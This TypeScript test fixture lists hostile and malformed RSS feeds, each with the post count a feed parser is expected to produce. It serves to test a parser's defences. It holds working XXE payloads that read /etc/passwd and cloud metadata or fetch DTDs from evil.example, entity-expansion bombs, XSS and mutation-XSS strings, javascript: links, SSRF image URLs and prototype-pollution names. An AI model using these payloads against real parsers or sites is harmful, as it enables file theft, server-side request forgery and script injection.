/** Feeds that mean harm, or are broken, for tests: each with what may become of it. */
import { gzipSync } from 'node:zlib'

interface HostileFeed {
  name: string
  body: Buffer | string
  contentType?: string
  /** What is made of it: this many posts, or nothing at all. */
  outcome: number | 'unreadable'
}

/** A post that nothing is wrong with; a feed that holds it shows that what stands around it did no harm. */
const sound = '<item><title>Sound</title><link>https://blog.example.org/sound</link></item>'

const rss = (items: string, before = '') =>
  `<?xml version="1.0"?>${before}<rss version="2.0"><channel><title>Blog</title>${items}</channel></rss>`
const item = (inner: string, link = 'https://blog.example.org/post') =>
  `<item><title>Post</title><link>${link}</link>${inner}</item>`
const described = (html: string) => rss(item(`<description><![CDATA[${html}]]></description>`))
const linked = (link: string) => rss(item('', link) + sound)
const pictured = (url: string) => rss(item(`<media:thumbnail url="${url}"/>`))

/** Entities that each stand for ten of the one before. */
function laughs(): string {
  const entities = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`)
  return `<!DOCTYPE rss [<!ENTITY l0 "ha">${entities.join('')}]>`
}

export const hostileFeeds: readonly HostileFeed[] = [
  { name: 'a billion laughs', body: rss(item('<description>&l9;</description>'), laughs()), outcome: 1 },
  {
    name: 'one long entity, used often',
    body: rss(
      item(`<description>${'&a;'.repeat(50_000)}</description>`),
      `<!DOCTYPE rss [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
    ),
    outcome: 1,
  },
  {
    name: 'an entity that is a file',
    body: rss(item('<description>&file;</description>'), '<!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd">]>'),
    outcome: 1,
  },
  {
    name: 'an entity that is an address of the cloud',
    body: rss(
      item('<description>&meta;</description>'),
      '<!DOCTYPE rss [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
    ),
    outcome: 1,
  },
  {
    name: 'a document type that is elsewhere',
    body: rss(sound, '<!DOCTYPE rss SYSTEM "https://evil.example/feed.dtd">'),
    outcome: 1,
  },
  {
    name: 'a parameter entity',
    body: rss(sound, '<!DOCTYPE rss [<!ENTITY % all SYSTEM "https://evil.example/all.dtd"> %all;]>'),
    outcome: 1,
  },
  {
    name: 'an inclusion of a file',
    body: rss(item('<description><xi:include href="file:///etc/passwd" parse="text"/></description>')),
    outcome: 1,
  },
  {
    name: 'a style sheet of its own',
    body: rss(sound, '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>'),
    outcome: 1,
  },
  { name: 'nothing', body: '', outcome: 'unreadable' },
  { name: 'white space', body: ' \n\n ', outcome: 'unreadable' },
  { name: 'a page', body: '<!doctype html><html><body><h1>404</h1></body></html>', outcome: 'unreadable' },
  { name: 'JSON', body: '{"status":"ok","items":[]}', outcome: 'unreadable' },
  { name: 'a message of another protocol', body: '<soap:Envelope><item/></soap:Envelope>', outcome: 'unreadable' },
  { name: 'a picture with a script', body: '<svg onload="alert(1)"><script>1</script></svg>', outcome: 'unreadable' },
  {
    name: 'noise',
    body: Buffer.from(Array.from({ length: 5_000 }, (_, n) => (n * 7_919) % 256)),
    outcome: 'unreadable',
  },
  { name: 'a feed that is compressed unasked', body: gzipSync(rss(sound)), outcome: 'unreadable' },
  { name: 'more than a megabyte', body: rss(sound + ' '.repeat(1024 * 1024)), outcome: 'unreadable' },
  { name: 'a channel nested without end', body: rss('<a>'.repeat(200_000)), outcome: 'unreadable' },
  {
    name: 'a post nested without end',
    body: rss(item(`<description>${'<a>'.repeat(200_000)}</description>`)),
    outcome: 'unreadable',
  },
  {
    name: 'HTML nested without end, closed by other tags',
    body: described(`${'<div>'.repeat(80_000)}${'</p></b>'.repeat(60_000)}`),
    outcome: 1,
  },
  {
    name: 'HTML of openings alone',
    body: described('<'.repeat(500_000)),
    outcome: 1,
  },
  { name: 'thousands of posts', body: rss(sound.repeat(10_000)), outcome: 30 },
  {
    name: 'thousands of categories',
    body: rss(item(`${'<category>c</category>'.repeat(20_000)}<category>d</category>`)),
    outcome: 1,
  },
  {
    name: 'a title without end',
    body: rss(`<item><title>${'t'.repeat(900_000)}</title><link>/a</link></item>`),
    outcome: 1,
  },
  { name: 'a description without a space', body: described('d'.repeat(900_000)), outcome: 1 },
  {
    name: 'an element of thousands of attributes',
    body: rss(`<x ${Array.from({ length: 50_000 }, (_, n) => `a${n}="1"`).join(' ')}/>${sound}`),
    outcome: 1,
  },
  { name: 'a name without end', body: rss(`<${'n'.repeat(900_000)}/>${sound}`), outcome: 1 },
  { name: 'an end in the middle of a post', body: rss(sound + sound).slice(0, -60), outcome: 1 },
  { name: 'an end in the middle of literal text', body: `${rss(sound).slice(0, -16)}<item><![CDATA[`, outcome: 1 },
  { name: 'a link that is a script', body: linked('javascript:alert(1)'), outcome: 1 },
  { name: 'a link that is a script in disguise', body: linked(' JaVa\tScRiPt\n:alert(1)'), outcome: 1 },
  { name: 'a link that is its own page', body: linked('data:text/html,&lt;script>alert(1)&lt;/script>'), outcome: 1 },
  { name: 'a link to a file', body: linked('file:///etc/passwd'), outcome: 1 },
  { name: 'a link with a name and a password', body: linked('https://blog.example.org:x@evil.example/'), outcome: 1 },
  { name: 'a link without end', body: linked(`https://blog.example.org/${'l'.repeat(100_000)}`), outcome: 1 },
  { name: 'an image that is a script', body: pictured('javascript:alert(1)'), outcome: 1 },
  {
    name: 'an image that is a picture with a script',
    body: pictured('data:image/svg+xml,&lt;svg onload=alert(1)>'),
    outcome: 1,
  },
  { name: 'an image of this machine', body: pictured('http://127.0.0.1/private.png'), outcome: 1 },
  { name: 'a script in the description', body: described('<script>alert(1)</script><p>Words</p>'), outcome: 1 },
  {
    name: 'a handler in the description',
    body: described('<img src=x onerror=alert(1)><svg/onload=alert(1)>'),
    outcome: 1,
  },
  {
    name: 'markup that changes its meaning when it is read again',
    body: described(
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"><math><mtext><style><a title="</style>',
    ),
    outcome: 1,
  },
  {
    name: 'markup without its end',
    body: described('Words <img src="https://a.example/" onerror="alert(1)'),
    outcome: 1,
  },
  {
    name: 'markup in the title and the categories',
    body: rss(
      '<item><title>&lt;b onclick=alert(1)>Bold&lt;/b></title><link>/a</link><category>&lt;i>c&lt;/i></category></item>',
    ),
    outcome: 1,
  },
  {
    name: 'names that JavaScript knows',
    body: rss(item('<__proto__ __proto__="x">y</__proto__><constructor>z</constructor><category>__proto__</category>')),
    outcome: 1,
  },
  { name: 'a change of the writing direction', body: described('\u202egnp.exe\u2066 \u200fwords'), outcome: 1 },
  { name: 'control characters', body: described('a\u0000b\u0007c\u001b[31md\u2028e'), outcome: 1 },
  {
    name: 'bytes that are no UTF-8',
    body: Buffer.concat([Buffer.from(rss(item('<description>')).slice(0, -60)), Buffer.from([0xff, 0xc0, 0x80])]),
    outcome: 0,
  },
  {
    name: 'a character set of nobody',
    body: rss(sound),
    contentType: 'text/xml; charset=klingon',
    outcome: 'unreadable',
  },
  {
    name: 'UTF-7',
    body: rss(item('<description>+ADw-script+AD4-</description>')),
    contentType: 'text/xml; charset=utf-7',
    outcome: 'unreadable',
  },
  {
    name: 'dates of no calendar',
    body: rss(item('<pubDate>Fri, 99 Foo 99999 25:61:61</pubDate>') + sound),
    outcome: 2,
  },
  {
    name: 'a post without a title, and one without a link',
    body: rss(`<item><link>/a</link></item><item><title>t</title></item>${sound}`),
    outcome: 1,
  },
]
